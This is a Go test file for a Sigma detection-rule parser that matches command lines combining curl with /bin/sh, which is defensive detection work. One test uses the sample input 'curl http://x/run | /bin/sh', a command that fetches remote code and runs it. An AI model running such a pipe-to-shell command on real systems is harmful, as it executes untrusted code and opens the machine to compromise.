/*************************************************************************
 * Copyright 2026 Precursor Authors. All rights reserved.
 *
 * This software may be modified and distributed under the terms of the
 * BSD 2-clause license. See the LICENSE file for details.
 **************************************************************************/

package pattern

import (
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

const fetchAndShellRule = `
title: fetch then shell
id: fetch-then-shell
detection:
  selection_fetch:
    CommandLine|contains: curl
  selection_shell:
    CommandLine|contains: /bin/sh
  condition: selection_fetch and selection_shell
`

func TestParseSigmaRulePlanBuildsPatternsPerSelector(t *testing.T) {
	plan, err := ParseSigmaRulePlan([]byte(fetchAndShellRule), "fallback")
	require.NoError(t, err)

	assert.Equal(t, "fetch then shell", plan.RuleName)
	assert.Len(t, plan.PatternSpecs, 2)
	assert.Contains(t, plan.SelectorCaptureNames, "selection_fetch")
	assert.Contains(t, plan.SelectorCaptureNames, "selection_shell")
}

func TestSigmaRuleMatchesOnlyWhenBothSelectorsFire(t *testing.T) {
	plan, err := ParseSigmaRulePlan([]byte(fetchAndShellRule), "fallback")
	require.NoError(t, err)

	store, err := NewStore(nil, []*SigmaRulePlan{plan})
	require.NoError(t, err)

	tagsFor := func(data []byte) []string {
		var tags []string
		for _, cp := range store.Patterns {
			matches, err := cp.FindAllMatches(data)
			require.NoError(t, err)
			for _, m := range matches {
				tags = append(tags, m.Names...)
			}
		}
		return tags
	}

	fetchOnly := tagsFor([]byte("curl http://x/run\n"))
	assert.Empty(t, MatchingSigmaRules([]*SigmaRulePlan{plan}, fetchOnly))

	fetchAndShell := tagsFor([]byte("curl http://x/run | /bin/sh\n"))
	hits := MatchingSigmaRules([]*SigmaRulePlan{plan}, fetchAndShell)
	require.Len(t, hits, 1)
	assert.Equal(t, plan.RuleSlug, hits[0].RuleSlug)
}

func TestSigmaCaptureNameFitsLimit(t *testing.T) {
	name := sigmaCaptureName("a-very-long-rule-slug-indeed", "selection_long_field_stem", 12)
	assert.LessOrEqual(t, len(name), 32)
}

func TestSigmaValueToRegexWildcardModifiers(t *testing.T) {
	assert.Equal(t, ".*foo.*", sigmaValueToRegex("foo", []string{"contains"}))
	assert.Equal(t, "foo.*", sigmaValueToRegex("foo", []string{"startswith"}))
	assert.Equal(t, ".*foo", sigmaValueToRegex("foo", []string{"endswith"}))
	assert.Equal(t, `foo\.bar`, sigmaValueToRegex("foo.bar", nil))
}
